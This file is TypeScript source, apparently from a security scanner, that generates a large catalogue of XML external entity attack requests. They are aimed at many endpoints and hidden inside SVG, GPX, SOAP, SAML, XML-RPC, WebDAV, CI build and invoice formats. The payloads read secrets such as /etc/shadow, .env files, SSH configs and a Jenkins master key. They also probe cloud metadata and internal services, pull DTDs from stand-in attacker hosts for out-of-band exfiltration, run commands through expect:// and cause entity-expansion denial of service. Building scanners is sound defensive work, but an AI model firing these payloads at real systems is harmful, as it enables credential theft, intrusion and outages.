import { deflateRawSync } from 'node:zlib';
import type { WholeWriter } from '../../make/whole.ts';
import { named } from './named.ts';

export const xml = 'application/xml';

/** Documents whose entities read or call what they should not. */
export function writeXml(write: WholeWriter): void {
  writeEntities(write);
  writeFormats(write);
}

/** A document type that takes an entity from elsewhere. */
export const type = (root: string, from: string, name = 'ent'): string =>
  `<!DOCTYPE ${root} [<!ENTITY ${name} SYSTEM "${from}">]>`;

function writeEntities(write: WholeWriter): void {
  const technique = named(write, 'xxe');
  technique('a file into an element');
  for (const [path, root, from] of [
    ['/api/stock/levels', 'stockQuery', 'file:///etc/issue'],
    ['/hotel/availability', 'AvailRQ', 'file:///opt/app/conf/database.yml'],
    ['/import/contacts', 'contacts', 'file:///c:/inetpub/wwwroot/web.config'],
    ['/edi/order', 'Order', 'file:///proc/self/environ'],
    ['/v3/parcels', 'parcel', 'file:/etc/resolv.conf'],
  ] as const)
    write.send(path, xml, `<?xml version="1.0"?>${type(root, from)}<${root}><note>&ent;</note></${root}>`);
  technique('an address into an element');
  for (const from of [
    'http://169.254.169.254/latest/meta-data/iam/info',
    'http://localhost:8500/v1/kv/?recurse',
    'https://q8.oast.example/x',
    'ftp://203.0.113.70:2121/a',
    'http://kubernetes.default.svc/api',
  ])
    write.send('/b2b/catalogue', 'text/xml', `${type('cat', from, 'u')}<cat><item>&u;</item></cat>`);
  technique('a parameter entity from elsewhere');
  for (const from of [
    'http://203.0.113.70/e.dtd',
    'https://p2.oast.example/d',
    'ftp://203.0.113.70/p.dtd',
    'http://192.0.2.19:8000/eval.dtd?%25',
  ])
    write.send('/booking/xml', xml, `<?xml version="1.0"?><!DOCTYPE b [<!ENTITY % load SYSTEM "${from}">%load;]><b/>`);
  technique('a document type of another server');
  write.send('/rpc/quote', xml, '<!DOCTYPE quote SYSTEM "http://203.0.113.70/quote.dtd"><quote>&go;</quote>');
  write.send('/rpc/quote', xml, '<!DOCTYPE quote PUBLIC "-//A//B//EN" "https://z3.oast.example/q.dtd"><quote/>');
  write.send(
    '/fleet/track',
    'text/xml',
    "<?xml version='1.0' standalone='no'?><!DOCTYPE t SYSTEM 'file:///usr/share/xml/x.dtd' [<!ENTITY h SYSTEM 'file:///etc/hosts'>]><t>&h;</t>",
  );
  write.send('/fleet/track', xml, '<!DOCTYPE t PUBLIC "x" "\\\\203.0.113.70\\share\\a.dtd"><t/>');
  technique('an error that tells the file');
  for (const dtd of [
    '/usr/share/yelp/dtd/docbookx.dtd',
    '/usr/share/xml/fontconfig/fonts.dtd',
    'C:\\Windows\\System32\\wbem\\xml\\cim20.dtd',
    '/opt/IBM/WebSphere/AppServer/properties/sip-app_1_0.dtd',
  ])
    write.send(
      '/claims/submit',
      xml,
      `<!DOCTYPE c [<!ENTITY % l SYSTEM "file:///${dtd}"><!ENTITY % expr 'a)><!ENTITY &#x25; f SYSTEM "file:///etc/passwd"><!ENTITY &#x25; e "<!ENTITY &#x26;#x25; r SYSTEM &#x27;file:///no/&#x25;f;&#x27;>">&#x25;e;&#x25;r;<!ELEMENT aa (bb'>%l;]><c/>`,
    );
  technique('entities that grow');
  for (const [first, times] of [
    ['ha', 9],
    ['zzzz', 7],
    ['&#x41;', 8],
    ['lorem ', 6],
  ] as const) {
    const lines = Array.from({ length: times }, (_, at) => `<!ENTITY g${at + 1} "${`&g${at};`.repeat(10)}">`).join('');
    write.send('/ws/report', xml, `<!DOCTYPE r [<!ENTITY g0 "${first}">${lines}]><r>&g${times};</r>`);
  }
  technique('one long entity many times');
  write.send('/ws/report', xml, `<!DOCTYPE r [<!ENTITY big "${'k'.repeat(3000)}">]><r>${'&big;'.repeat(2000)}</r>`);
  write.send('/ws/log', xml, '<!DOCTYPE r [<!ENTITY d SYSTEM "file:///dev/urandom">]><r>&d;</r>');
  write.send('/ws/log', xml, '<!DOCTYPE r [<!ENTITY a "&b;&b;"><!ENTITY b "&a;&a;">]><r at="&a;"/>');
  technique('handlers of PHP');
  for (const from of [
    'php://filter/zlib.deflate/convert.base64-encode/resource=../config.php',
    'php://filter/read=string.rot13/resource=index.php',
    'expect://uname',
    'compress.zlib://../.env',
    'data://text/plain;base64,PCFFTlRJVFkgYT4=',
  ])
    write.send('/feed/push', 'text/xml', `${type('f', from, 'p')}<f><t>&p;</t></f>`);
  technique('handlers of Java');
  for (const from of [
    'jar:http://203.0.113.70/w.zip!/a',
    'netdoc:/etc/hosts',
    'gopher://127.0.0.1:6379/_INFO',
    'file:///srv/tomcat/webapps/ROOT/WEB-INF/',
    'mailto:a@evil.example',
  ])
    write.send('/services/Order', xml, `${type('o', from, 'j')}<o ref="1">&j;</o>`);
}

/** Formats of XML that people send all day. */
function writeFormats(write: WholeWriter): void {
  const technique = named(write, 'xxe');
  const file = (path: string, name: string, kind: string, text: string | Buffer): void => {
    const head = `--cutX5\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${kind}\r\n\r\n`;
    write.send(
      path,
      'multipart/form-data; boundary=cutX5',
      Buffer.concat([Buffer.from(head), Buffer.from(text), Buffer.from('\r\n--cutX5--\r\n')]),
    );
  };
  technique('pictures of vectors');
  for (const [from, around] of [
    ['file:///etc/hostname', 'text'],
    ['http://203.0.113.70/s', 'title'],
    ['file:///app/.env', 'desc'],
    ['expect://id', 'text'],
  ] as const)
    file(
      '/avatar',
      'me.svg',
      'image/svg+xml',
      `<?xml version="1.0"?>${type('svg', from, 'v')}<svg xmlns="http://www.w3.org/2000/svg"><${around}>&v;</${around}></svg>`,
    );
  technique('tracks and maps');
  file(
    '/rides/import',
    'ride.gpx',
    'application/gpx+xml',
    `${type('gpx', 'file:///etc/passwd')}<gpx version="1.1"><trk><name>&ent;</name></trk></gpx>`,
  );
  file(
    '/maps/layer',
    'a.kml',
    'application/vnd.google-earth.kml+xml',
    `${type('kml', 'http://k1.oast.example/')}<kml><Placemark><name>&ent;</name></Placemark></kml>`,
  );
  file(
    '/rides/import',
    'run.tcx',
    'application/xml',
    `${type('TrainingCenterDatabase', 'file:///etc/shadow')}<TrainingCenterDatabase><Notes>&ent;</Notes></TrainingCenterDatabase>`,
  );
  write.send(
    '/geoserver/wfs',
    xml,
    `${type('wfs', 'file:///opt/geo/users.xml')}<wfs:GetFeature service="WFS" xmlns:wfs="http://www.opengis.net/wfs"><wfs:Query typeName="&ent;"/></wfs:GetFeature>`,
  );
  technique('feeds and lists of feeds');
  file(
    '/reader/opml',
    'subs.opml',
    'text/x-opml',
    `${type('opml', 'file:///etc/passwd')}<opml><body><outline text="&ent;"/></body></opml>`,
  );
  write.send(
    '/planet/ping',
    'application/rss+xml',
    `${type('rss', 'file:///var/www/.env')}<rss><channel><title>&ent;</title></channel></rss>`,
  );
  write.send(
    '/atom/entries',
    'application/atom+xml',
    `${type('entry', 'http://127.0.0.1:8080/')}<entry xmlns="http://www.w3.org/2005/Atom"><title>&ent;</title></entry>`,
  );
  write.send(
    '/sitemap/submit',
    xml,
    `${type('urlset', 'file:///etc/group')}<urlset><url><loc>&ent;</loc></url></urlset>`,
  );
  technique('calls of procedures');
  for (const [from, call] of [
    ['file:///etc/passwd', 'blog.newPost'],
    ['http://r9.oast.example/', 'system.listMethods'],
    ['php://filter/read=convert.base64-encode/resource=settings.php', 'demo.echo'],
    ['file:///root/.ssh/config', 'user.find'],
  ] as const)
    write.send(
      '/RPC2',
      'text/xml',
      `<?xml version="1.0"?>${type('methodCall', from)}<methodCall><methodName>${call}</methodName><params><param><value><string>&ent;</string></value></param></params></methodCall>`,
    );
  technique('envelopes of SOAP');
  for (const from of [
    'file:///etc/fstab',
    'http://10.0.0.12/wsdl',
    'file:///d:/app/connection.config',
    'https://s6.oast.example/',
  ])
    write.send(
      '/ws/Customer.asmx',
      'text/xml; charset=utf-8',
      `${type('soap:Envelope', from)}<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetCustomer><id>&ent;</id></GetCustomer></soap:Body></soap:Envelope>`,
      { headers: { soapaction: '"GetCustomer"' } },
    );
  technique('sign-on by SAML');
  const saml = (from: string): string =>
    `${type('samlp:Response', from)}<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r"><Issuer>&ent;</Issuer></samlp:Response>`;
  write.send(
    '/sso/acs',
    'application/x-www-form-urlencoded',
    `SAMLResponse=${encodeURIComponent(Buffer.from(saml('file:///etc/passwd')).toString('base64'))}&RelayState=x`,
  );
  write.send(
    '/adfs/ls',
    'application/x-www-form-urlencoded',
    `SAMLResponse=${encodeURIComponent(Buffer.from(saml('http://m2.oast.example/')).toString('base64'))}`,
  );
  write.get(
    `/saml/login?SAMLRequest=${encodeURIComponent(deflateRawSync(saml('file:///etc/hosts')).toString('base64'))}`,
  );
  write.send(
    '/saml/metadata',
    'application/samlmetadata+xml',
    `${type('EntityDescriptor', 'file:///etc/passwd')}<EntityDescriptor entityID="&ent;"/>`,
  );
  technique('properties of a shared folder');
  for (const [method, root] of [
    ['PROPFIND', 'D:propfind'],
    ['PROPPATCH', 'D:propertyupdate'],
    ['REPORT', 'C:calendar-query'],
    ['LOCK', 'D:lockinfo'],
  ] as const)
    write.send(
      '/dav/files/',
      xml,
      `${type(root, 'file:///etc/passwd')}<${root} xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav"><D:prop><a>&ent;</a></D:prop></${root}>`,
      { method, headers: { depth: '1' } },
    );
  technique('settings of phones and builds');
  file(
    '/mdm/profile',
    'wifi.mobileconfig',
    'application/x-apple-aspen-config',
    '<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY p SYSTEM "file:///etc/master.passwd">]><plist><dict><key>n</key><string>&p;</string></dict></plist>',
  );
  file(
    '/ci/pom',
    'pom.xml',
    'text/xml',
    `${type('project', 'file:///root/.m2/settings.xml')}<project><artifactId>&ent;</artifactId></project>`,
  );
  file(
    '/tests/report',
    'junit.xml',
    'text/xml',
    `${type('testsuite', 'file:///var/lib/jenkins/secrets/master.key')}<testsuite name="&ent;"/>`,
  );
  file(
    '/packages',
    'a.nuspec',
    'application/xml',
    `${type('package', 'http://203.0.113.70/n')}<package><metadata><id>&ent;</id></metadata></package>`,
  );
  technique('translations and music');
  file(
    '/l10n/import',
    'de.xlf',
    'application/xliff+xml',
    `${type('xliff', 'file:///etc/passwd')}<xliff version="1.2"><file><body><trans-unit id="1"><source>&ent;</source></trans-unit></body></file></xliff>`,
  );
  file(
    '/l10n/memory',
    'm.tmx',
    'text/xml',
    `${type('tmx', 'http://t4.oast.example/')}<tmx version="1.4"><body><tu><tuv><seg>&ent;</seg></tuv></tu></body></tmx>`,
  );
  file(
    '/scores',
    'song.musicxml',
    'application/vnd.recordare.musicxml+xml',
    `${type('score-partwise', 'file:///etc/passwd')}<score-partwise><work><work-title>&ent;</work-title></work></score-partwise>`,
  );
  file(
    '/android/strings',
    'strings.xml',
    'text/xml',
    `${type('resources', 'file:///home/build/.gradle/gradle.properties')}<resources><string name="a">&ent;</string></resources>`,
  );
  technique('diagrams and processes');
  file(
    '/process/deploy',
    'leave.bpmn',
    'text/xml',
    `${type('definitions', 'file:///opt/camunda/conf/application.yml')}<definitions><process id="a" name="&ent;"/></definitions>`,
  );
  file(
    '/board/import',
    'plan.drawio',
    'application/xml',
    `${type('mxfile', 'file:///etc/passwd')}<mxfile><diagram name="&ent;"/></mxfile>`,
  );
  file(
    '/reports/template',
    'inv.jrxml',
    'text/xml',
    `${type('jasperReport', 'http://j5.oast.example/')}<jasperReport name="&ent;"/>`,
  );
  file('/mindmap', 'ideas.mm', 'text/xml', `${type('map', 'file:///etc/passwd')}<map><node TEXT="&ent;"/></map>`);
  technique('invoices and bank messages');
  for (const [root, path] of [
    ['Invoice', '/ubl/in'],
    ['Document', '/iso20022/pain001'],
    ['rsm:CrossIndustryInvoice', '/zugferd'],
    ['FatturaElettronica', '/sdi/in'],
  ] as const)
    write.send(
      path,
      xml,
      `<?xml version="1.0" encoding="UTF-8"?>${type(root, `http://203.0.113.70/${path.slice(1, 4)}`)}<${root}><ID>&ent;</ID></${root}>`,
    );
}
